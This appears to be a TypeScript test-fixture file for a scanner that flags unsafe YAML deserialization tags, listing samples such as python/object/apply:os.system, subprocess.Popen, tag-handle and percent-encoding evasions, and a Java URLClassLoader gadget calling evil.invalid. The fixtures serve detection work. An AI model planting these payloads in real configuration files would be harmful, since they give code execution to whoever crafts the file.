import type { Sample } from '../sample.ts'
import { hostile, text } from './write.ts'

const yaml = (name: string, source: string, names: string, verdict: 'hold' | 'block' = 'block'): Sample =>
  hostile(`yaml-${name}`, 'YAML tags', { 'hyperparams.yaml': text(source) }, names, verdict)
/** Tags that make a loader call something. */
export const yamls: readonly Sample[] = [
  yaml('apply', 'a: !!python/object/apply:os.system ["true"]\n', 'os.system'),
  yaml('new', 'a: !!python/object/new:subprocess.Popen\n  args: [["true"]]\n', 'subprocess.Popen'),
  yaml('object', 'a: !!python/object:evil.Thing {x: 1}\n', 'evil.Thing'),
  yaml('name', 'a: !!python/name:os.system\n', 'os.system'),
  yaml('module', 'a: !!python/module:evil_module\n', 'evil_module', 'hold'),
  yaml('verbatim', 'a: !<tag:yaml.org,2002:python/object/apply:os.system> ["true"]\n', 'os.system'),
  yaml('handle', '%TAG !p! tag:yaml.org,2002:python/object/\n---\na: !p!apply:os.system ["true"]\n', 'os.system'),
  yaml('primary-handle', '%TAG ! tag:yaml.org,2002:python/object/\n---\na: !apply:os.system ["true"]\n', 'os.system'),
  yaml('percent', 'a: !!python%2Fobject%2Fapply:os.system ["true"]\n', 'os.system'),
  yaml('key', '? !!python/object/apply:os.system ["true"]\n: 1\n', 'os.system'),
  yaml('second-document', 'a: 1\n---\nb: !!python/object/apply:os.system ["true"]\n', 'os.system'),
  yaml('anchored', 'a: &x !!python/object/apply:os.system ["true"]\nb: *x\n', 'os.system'),
  yaml('before-error', 'a: !!python/object/apply:os.system ["true"]\nb: [\n', 'os.system'),
  yaml('flow', '{"a": !!python/object/apply:os.system ["true"]}\n', 'os.system'),
  yaml('hyper-apply', 'seed: !apply:os.system\n  command: "true"\n', 'os.system'),
  yaml('hyper-new', 'model: !new:subprocess.Popen\n  args: ["true"]\n', 'subprocess.Popen'),
  yaml('hyper-name', 'f: !name:os.system\n  command: "true"\n', 'os.system'),
  yaml('hyper-include', 'x: !include:../../other.yaml\n', 'other.yaml'),
  yaml(
    'java',
    'a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil.invalid/"]]]]\n',
    'javax.script',
  ),
  yaml('javascript', 'a: !!js/function "function(){}"\n', 'js'),
  yaml('ruby', 'a: !ruby/object:Gem::Installer\n  i: x\n', 'ruby', 'hold'),
  yaml(
    'long',
    `${Array.from({ length: 40_000 }, (_, k) => `w${k}: [${k}]`).join('\n')}\nz: !!python/object/apply:os.system ["true"]\n`,
    'os.system',
  ),
  hostile(
    'yaml-in-text',
    'YAML tags',
    { 'notes.txt': text('Some words first\n\nthen: a: !!python/object/apply:os.system ["true"]\n') },
    'os.system',
  ),
]
